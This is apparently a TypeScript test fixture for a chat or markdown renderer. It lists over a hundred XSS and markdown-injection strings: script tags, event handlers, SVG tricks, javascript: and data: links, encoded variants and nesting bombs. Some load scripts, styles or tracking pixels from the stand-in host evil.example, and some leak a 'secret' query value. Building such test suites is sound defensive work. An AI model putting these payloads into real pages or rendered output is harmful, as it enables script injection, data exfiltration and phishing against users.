/**
 * What somebody may write, or talk a model into writing, so that it runs or loads something where it is shown. `§` is
 * where a word stands that must be readable wherever the text is shown.
 */
const HOSTILE: readonly string[] = [
  // Scripts.
  '<script>alert(1)</script>§',
  '§<ScRiPt>alert(1)</sCrIpT>',
  '<script src=https://evil.example/x.js></script>§',
  '<script\n>alert(1)</script>§',
  '§</script><script>alert(1)//',
  '<<script>alert(1);//<</script>§',
  '<script type="module">import("https://evil.example/x.js")</script>§',
  '</title><script>alert(1)</script>§',
  '</textarea><script>alert(1)</script>§',
  '--><script>alert(1)</script>§',
  ']]><script>alert(1)</script>§',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">§',
  // Handlers.
  '<img src=x onerror=alert(1)>§',
  '<img src="x" onerror="alert(1)" alt="a">§',
  '<img/src=x/onerror=alert(1)>§',
  '<img src=x onerror\n=alert(1)>§',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">§',
  '<body onload=alert(1)>§',
  '<input autofocus onfocus=alert(1)>§',
  '<details open ontoggle=alert(1)>§</details>',
  '<video><source onerror=alert(1)></video>§',
  '<audio src=x onerror=alert(1)>§',
  '<marquee onstart=alert(1)>§</marquee>',
  '<div onpointerenter=alert(1) style="position:fixed;inset:0">§</div>',
  '<a href="#" onclick="alert(1)">§</a>',
  '" onmouseover="alert(1)" x="§',
  "' autofocus onfocus='alert(1)' x='§",
  '`onerror=alert(1)` §',
  // Vector drawings and mathematics.
  '<svg onload=alert(1)>§</svg>',
  '<svg><script>alert(1)</script></svg>§',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>§',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>§',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>§',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>§',
  '<math href="javascript:alert(1)">§</math>',
  // What loads.
  '<iframe src="javascript:alert(1)"></iframe>§',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>§',
  '<object data="https://evil.example/x.swf"></object>§',
  '<embed src="https://evil.example/x">§',
  '<link rel=stylesheet href=https://evil.example/x.css>§',
  '<link rel=prefetch href=https://evil.example/p>§',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">§',
  '<base href="https://evil.example/">§',
  '<form action="https://evil.example/"><button>§</button></form>',
  '<style>@import "https://evil.example/x.css"; *{background:url(https://evil.example/y)}</style>§',
  '<p style="background:url(https://evil.example/z)">§</p>',
  '<img src="https://evil.example/pixel.png?who=me">§',
  '<picture><source srcset="https://evil.example/s.png"><img></picture>§',
  // Markdown: pictures.
  '![§](https://evil.example/p.png)',
  '![§](https://evil.example/p.png?q=secret "title")',
  '![§][ref]\n\n[ref]: https://evil.example/ref.png',
  '![§](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![§](javascript:alert(1))',
  '![§" onerror="alert(1)](x)',
  '[![§](https://evil.example/in.png)](https://evil.example/link)',
  // Markdown: links.
  '[§](javascript:alert(1))',
  '[§](JaVaScRiPt:alert(1))',
  '[§](java&#115;cript:alert(1))',
  '[§](java\\script:alert(1))',
  '[§](&#x6A;avascript:alert(1))',
  '[§](javascript&colon;alert(1))',
  '[§](<javascript:alert(1)>)',
  '[§](<java\tscript:alert(1)>)',
  '[§]( \u0001javascript:alert(1))',
  '[§](vbscript:msgbox(1))',
  '[§](data:text/html,<script>alert(1)</script>)',
  '[§](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[§](tg://resolve?domain=evil)',
  '[§](tg:msg_url?url=https://evil.example)',
  '[§](intent://evil.example#Intent;scheme=https;end)',
  '[§](file:///etc/passwd)',
  '[§](blob:https://evil.example/x)',
  '[§](//evil.example/relative)',
  '[§](/api/auth/sign-out)',
  '[§](https://user:secret@evil.example/)',
  '[§](https://evil.example/" onclick="alert(1))',
  '[§](https://evil.example/ "title\\" onclick=\\"alert(1)")',
  "[§](https://evil.example/'onmouseover='alert(1))",
  '[https://bank.example §](https://evil.example/not-the-bank)',
  '[§][r2]\n\n[r2]: javascript:alert(1)',
  '<javascript:alert(1)> §',
  '<https://evil.example/auto> §',
  'https://evil.example/plain?q=<script>alert(1)</script> §',
  '[§](https://xn--80ak6aa92e.example/)',
  '[§](https://evil.example/\u202Egnp.exe)',
  // Entities, direction, other alphabets of the same thing.
  '&lt;script&gt;alert(1)&lt;/script&gt; §',
  '&#60;img src=x onerror=alert(1)&#62; §',
  '\u202E§\u202C <script>alert(1)</script>',
  '\u2066§\u2069\u200B\u200D\uFEFF',
  '＜script＞alert(1)＜/script＞ §',
  '\u003cscript\u003ealert(1)\u003c/script\u003e §',
  '%3Cscript%3Ealert(1)%3C/script%3E §',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4- §',
  // Templates and styles.
  '{{constructor.constructor("alert(1)")()}} §',
  `\${alert(1)} §`,
  '#{alert(1)} <%= alert(1) %> §',
  '{"__html":"<img src=x onerror=alert(1)>"} §',
  'expression(alert(1)) §',
  'url(javascript:alert(1)) §',
  '__proto__ constructor toString §',
  // What might be too much, or never end.
  `${'> '.repeat(120)}§`,
  `${'- '.repeat(60)}§`,
  `${'['.repeat(200)}§${']'.repeat(200)}(javascript:alert(1))`,
  `${'*'.repeat(300)}§${'*'.repeat(300)}`,
  `${'<b>'.repeat(150)}§`,
  '§ <!-- <script>alert(1)</script>',
  '§ <![CDATA[<script>alert(1)</script>',
  '```html\n<script>alert(1)</script> §\n```',
  '~~~\n§ <img src=x onerror=alert(1)>',
]

/** The longest message that is made of them. */
const PACKED_MAX_LENGTH = 1_500

export interface HostileText {
  text: string
  /** The words that must be readable in it. */
  marks: string[]
}

/** Each by itself, with a word of its own. */
export const HOSTILE_TEXTS: readonly HostileText[] = HOSTILE.map((text, index) => {
  const mark = `слово${index + 100}`
  return { text: text.replaceAll('§', mark), marks: [mark] }
})

/** All of them in fewer messages: what would swallow the rest ends one. */
export function packed(maxLength = PACKED_MAX_LENGTH): HostileText[] {
  const packs: HostileText[] = []
  let open: HostileText | null = null
  for (const { text, marks } of HOSTILE_TEXTS) {
    const joined: HostileText = open
      ? { text: `${open.text}\n\n${text}`, marks: [...open.marks, ...marks] }
      : { text, marks }
    if (joined.text.length > maxLength && open) packs.push(open)
    open = joined.text.length > maxLength ? { text, marks } : joined
    if (!/<!--|<!\[|~~~|```/.test(text)) continue
    packs.push(open)
    open = null
  }
  if (open) packs.push(open)
  return packs
}
